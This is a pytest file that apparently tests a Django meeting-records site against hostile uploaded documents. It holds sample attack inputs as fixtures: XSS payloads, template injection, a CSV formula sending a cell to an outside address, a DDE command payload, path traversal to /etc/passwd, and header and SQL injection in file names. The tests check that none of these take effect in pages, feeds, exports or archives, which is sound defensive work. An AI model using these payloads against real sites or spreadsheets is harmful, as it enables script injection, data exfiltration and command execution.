"""Documents of strangers, added and then looked for on every way out: none does anything there."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import urllib.error
import urllib.request
from collections import deque
from pathlib import Path
from urllib.parse import quote, urldefrag, urljoin

import pytest
from lxml import etree
from selectolax.lexbor import LexborHTMLParser, LexborNode

from tests.web.conftest import run, served

ATTACKS = {
    "tag": "<script>alert('tag')</script>",
    "event": "<img src=x onerror=alert('event')>",
    "attribute": "\" onmouseover=\"alert('attribute')\" x=\"",
    "svg": "<svg/onload=alert('svg')><animate onbegin=alert('svg')>",
    "link": "[press here](javascript:alert('link'))",
    "entity": "&lt;script&gt;alert('entity')&lt;/script&gt; &#60;b&#62; &amp;lt;i&amp;gt;",
    "template": "{{ 7777|add:7777 }} {% debug %} {% now 'Y' %} ${7777*7777}",
    "closing": "</textarea></title></style></script><!-- ]]> <![CDATA[",
    "bidi": "\u202eevil\u202c \u2066x\u2069 \u200f\u2028",
    "formula": "=HYPERLINK(\"http://192.0.2.7/?\"&A1,\"press\")",
    "command": "@SUM(1+9)*cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "control": "a\x0bb\x0cc\x01d\x7f",
}  # fmt: skip
_REPORT = """# Report of the meeting of experts on {attack}

Cartagena, 3 and 4 May 2016

## A. {attack}

The speakers in this session were Petrona Villagra {attack}, Head of the Ferry Guild, and Ramiro \
Zelaya, Director of {attack}. The moderator was Ana Quispe Rada of the Southern Observatory.

Ramiro Zelaya said that {attack} was seen every year. He proposed three measures: (i) {attack}; \
(ii) that shelters be opened near {attack}; and (iii) that nobody be asked for papers there.

{attack}

{attack} agreed with the previous speaker and added that 27 of 33 countries had {attack}.
"""
_NAMES = (
    "<img src=x onerror=alert(1)>.md", "=cmd|' C calc'!A0.md", "..%2f..%2fetc%2fpasswd.md",
    "\u202egpj.exe.md", "a\nb\r\nX-Made-Up: yes.md", "{{ 7777|add:7777 }}.md", "'\"; drop table.md",
)  # fmt: skip
SIGNS = ("<script>alert", "<img src=x", "<svg/onload", "15554", 'onerror=alert(1)>.md"')
"""What only an attack that went through, or a template that was run, would leave in a page."""


@pytest.fixture(scope="module")
def documents(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("strangers")
    for name, attack in ATTACKS.items():
        (folder / f"{name}.md").write_text(_REPORT.format(attack=attack), "utf-8")
    whole = " ".join(ATTACKS.values())
    for number, name in enumerate(_NAMES):
        (folder / name).write_text(_REPORT.format(attack=f"crossing {number}"), "utf-8")
    (folder / "page.html").write_text(
        f"<html><head><title>{ATTACKS['entity']}</title><script>alert('page')</script></head>"
        f"<body onload=alert('body')><h1>{ATTACKS['entity']}</h1><p>{whole}</p>"
        f"<p><a href='javascript:alert(2)'>Report</a></p></body></html>",
        "utf-8",
    )
    (folder / "picture.svg").write_text(
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(3)'><text>x</text></svg>", "utf-8"
    )
    (folder / "nul.txt").write_bytes(_REPORT.format(attack="a\x00b").encode())
    (folder / "enormous.md").write_text(
        f"# {'heading ' * 12_000}\n\n## {'x' * 50_000}\n\n{'#' * 400} deep\n\n"
        + _REPORT.format(attack="crossings"),
        "utf-8",
    )
    return folder


@pytest.fixture(scope="module")
def register(documents, tmp_path_factory) -> Path:
    """A register that has taken in what it takes of these."""
    path = tmp_path_factory.mktemp("hostile") / "register.db"
    added = run("add", str(documents), register=path, timeout=600)
    assert "Traceback" not in added.stderr
    assert added.stdout.count('"state":"new"') >= len(ATTACKS), added.stderr
    return path


@pytest.fixture(scope="module")
def site(register):
    with served(register) as address:
        yield address


@pytest.fixture(scope="module")
def answers(site) -> dict[str, tuple[str, str, bytes]]:
    """Every answer that can be reached from the first page, by address: type, disposition, body."""
    found: dict[str, tuple[str, str, bytes]] = {}
    starts = ["/en/", "/en/search?q=alert", "/en/search?q=%3Cscript%3E", "/api/v1/openapi.json",
              *_of_the_api(site)]  # fmt: skip
    waiting = deque(site + start for start in starts)
    while waiting:
        address = waiting.popleft()
        if address in found:
            continue
        try:
            with urllib.request.urlopen(address, timeout=60) as answer:
                body, headers = answer.read(), answer.headers
        except urllib.error.HTTPError as error:
            assert error.code < 500, address
            continue
        kind = headers.get_content_type()
        found[address] = (kind, headers.get("Content-Disposition", ""), body)
        if kind == "text/html":
            waiting.extend(_links(body, address, site))
    assert len(found) > 150
    return found


def test_no_page_holds_what_a_stranger_wrote_as_markup(answers):
    pages = {url: body for url, (kind, _, body) in answers.items() if kind == "text/html"}
    assert len(pages) > 100
    for url, body in pages.items():
        _hold_page(body.decode(), url)


def test_feeds_are_well_formed_and_hold_text_alone(answers):
    feeds = {url: body for url, (kind, _, body) in answers.items() if "atom" in kind}
    assert len(feeds) > 5
    for url, body in feeds.items():
        tags = {etree.QName(one).namespace for one in etree.fromstring(body).iter()}
        assert tags == {"http://www.w3.org/2005/Atom"}, url
        assert not any(sign in body.decode() for sign in SIGNS), url


def test_what_is_for_programs_has_no_tags(answers):
    seen = {kind for kind, _, _ in answers.values()}
    assert {"application/json", "application/jsonl", "application/ld+json", "text/csv"} <= seen
    for url, (kind, disposition, body) in answers.items():
        if "json" in kind:
            assert b"<" not in body, url
            for line in body.splitlines() if kind == "application/jsonl" else [body]:
                json.loads(line)
        if kind in ("application/jsonl", "application/ld+json", "text/csv"):
            assert disposition.startswith("attachment"), url


def test_no_cell_of_a_table_is_a_formula(answers):
    tables = {url: body for url, (kind, _, body) in answers.items() if kind == "text/csv"}
    assert len(tables) >= 6
    guarded = 0
    for url, body in tables.items():
        rows = list(csv.reader(io.StringIO(body.decode())))
        assert len({len(row) for row in rows}) == 1, url
        for cell in (cell for row in rows for cell in row):
            begun = cell.strip().lstrip("\u202a\u202b\u202d\u202e\u200f\u2066")
            assert not begun.startswith(("=", "+", "-", "@")), (url, cell)
            guarded += cell.startswith("'=") or cell.startswith("'@")
    assert guarded >= 2, "the attacks are there, as text"


def test_files_come_as_downloads_that_can_do_nothing(site, answers):
    files = [url for url in answers if url.endswith("/file")]
    assert len(files) >= len(ATTACKS)
    for url in files:
        with urllib.request.urlopen(url, timeout=60) as answer:
            headers = answer.headers
        assert headers.get_content_type() == "application/octet-stream"
        assert headers["Content-Disposition"].startswith("attachment")
        assert headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["X-Made-Up"] is None
        assert "/" not in headers["Content-Disposition"].replace("%2f", "").replace("utf-8''", "")


def test_nothing_runs_in_a_browser(site, browser, answers):
    context = browser.new_context()
    page, ran, asked = context.new_page(), [], []
    page.on("dialog", lambda one: (ran.append(one.message), one.dismiss()))
    page.on("request", lambda one: asked.append(one.url))
    shown = [url for url, (kind, _, _) in answers.items() if kind == "text/html"]
    chosen = [url for url in shown if "/statements/" not in url]
    for url in [*chosen[:90], *[url for url in shown if "/statements/" in url][:30]]:
        page.goto(url, wait_until="domcontentloaded")
    context.close()
    assert not ran
    assert all(url.startswith((site, "data:image/")) for url in asked)


def test_exports_hold_it_as_data(register):
    exported = run("export", register=register)
    assert exported.returncode == 0
    lines = [json.loads(line) for line in exported.stdout.strip().split("\n")]
    assert ATTACKS["tag"] in exported.stdout.replace("\\'", "'")
    assert len(lines) > 100


def test_an_archive_of_it_is_harmless_too(register, site, browser, tmp_path):
    with urllib.request.urlopen(f"{site}/api/v1/meetings?size=100", timeout=60) as answer:
        meetings = json.load(answer)["items"]
    key = max(meetings, key=lambda one: one["statements"])["meeting"]["key"]
    folder = tmp_path / "archive"
    made = run("archive", key, str(folder), register=register, timeout=900)
    assert made.returncode == 0, made.stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == ["archive"]
    pages = sorted(folder.rglob("*.html"))
    for path in pages:
        _hold_page(path.read_text("utf-8"), str(path), archived=True)
    assert b"<" not in (folder / "static" / "search-data.js").read_bytes()
    for path in (folder / "files").iterdir():
        assert path.suffix in (".pdf", ".docx", ".odt", ".txt", ".zip")
    page, ran, asked = browser.new_page(), [], []
    page.on("dialog", lambda one: (ran.append(one.message), one.dismiss()))
    page.on("request", lambda one: asked.append(one.url))
    for path in [one for one in pages if one.is_relative_to(folder / "en")][:60]:
        page.goto(path.as_uri(), wait_until="domcontentloaded")
    for words in ("alert", "onerror", "<script>alert('q')</script>"):
        page.goto((folder / "en" / "search.html").as_uri() + f"?q={quote(words)}")
        page.wait_for_selector("#results h2")
    page.close()
    assert not ran
    assert all(url.startswith(("file:", "data:image/")) for url in asked)


def test_no_request_reads_a_document_in_the_web_process(register):
    """What opens files is never even loaded: there is nothing there that a document could break.

    What tells the parts of plain text, and the door to a limited process, may be there.
    """
    program = """
import json, logging, sys
import relatoria.web.wsgi
logging.disable(logging.CRITICAL)
from django.test import Client
client = Client(HTTP_HOST="localhost")
source = client.get("/api/v1/sources").json()["items"][0]["source"]["key"]
for path in ("/en/", "/en/sources/", f"/en/sources/{source}/", f"/en/sources/{source}/text",
             f"/en/sources/{source}/file", f"/api/v1/sources/{source}/record", "/en/search?q=x",
             "/en/meetings/", "/en/open-data/", "/open-data/v1/sources.csv", "/en/api/"):
    answer = client.get(path)
    assert answer.status_code == 200, path
    list(answer)
print(json.dumps(sorted(sys.modules)))
"""
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True, timeout=300,
        env={"DATABASE_URL": str(register), "DJANGO_SETTINGS_MODULE": "relatoria.web.settings",
             "PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    loaded = json.loads(done.stdout)
    readers = [
        name for name in loaded
        if re.match(r"relatoria\.formats\.(pdf|docx|odt|html|plain|layout)\b", name)
        or name in ("pypdfium2", "lxml.html", "selectolax")
    ]  # fmt: skip
    assert not readers


def _of_the_api(site: str) -> list[str]:
    """Every address of the API, with each key it knows."""

    def asked(path: str):
        with urllib.request.urlopen(f"{site}/api/v1/{path}", timeout=60) as answer:
            return json.load(answer)

    keys = {
        "meetings": [one["meeting"]["key"] for one in asked("meetings?size=100")["items"]],
        "agents": [one["agent"]["key"] for one in asked("people?size=100")["items"]],
        "sources": [one["source"]["key"] for one in asked("sources?size=100")["items"]],
    }
    found = [f"/api/v1/{name}/{key}" for name, held in keys.items() for key in held]
    found += [f"/api/v1/agents/{key}/statements" for key in keys["agents"]]
    found += [f"/api/v1/meetings/{key}/statements" for key in keys["meetings"]]
    found += [f"/api/v1/sources/{key}/record" for key in keys["sources"]]
    return [*found, *(f"/api/v1/{name}" for name in
            ("meetings", "people", "organizations", "countries", "sources", "conflicts", "topics",
             "overview", "search?q=alert", "search?q=%7B%7B"))]  # fmt: skip


def _links(body: bytes, base: str, site: str) -> list[str]:
    """What a page of one language leads to within the site."""
    nodes = LexborHTMLParser(body.decode()).css("a[href], link[rel=alternate][type]")
    found = []
    for node in nodes:
        url = urldefrag(urljoin(base, node.attributes["href"] or "")).url
        path = url.removeprefix(site)
        # Filters narrow each other without end; one at a time shows every template. Figures hold
        # nothing of documents, and are many.
        apart = path.count("&") > 0 or path.startswith(("/en/search?", "/en/figures/"))
        if not apart and path.startswith(("/en/", "/open-data/", "/api/")):
            found.append(url)
    return found


def _hold_page(page: str, name: str, *, archived: bool = False) -> None:
    for sign in SIGNS:
        assert sign not in page, (name, sign)
    for node in LexborHTMLParser(page).css("*"):
        for attribute, value in node.attributes.items():
            assert not attribute.startswith("on"), (name, attribute)
            if attribute in ("href", "src", "action", "xlink:href", "srcset"):
                link = (value or "").strip().lower()
                scheme = re.match(r"[a-z][a-z0-9+.-]*:", link)
                assert scheme is None, (name, link)
        assert node.tag not in ("iframe", "object", "embed", "base", "animate", "style"), name
        if node.tag == "script":
            _hold_script(node, name, "../static/" if archived else "/static/")


def _hold_script(node: LexborNode, name: str, static: str) -> None:
    """A script is a file of the site's own, or data that no browser runs."""
    if node.attributes.get("type") == "application/json":
        json.loads(node.text())
        return
    assert (node.attributes.get("src") or "").startswith(static), name
    assert not (node.text() or "").strip(), name
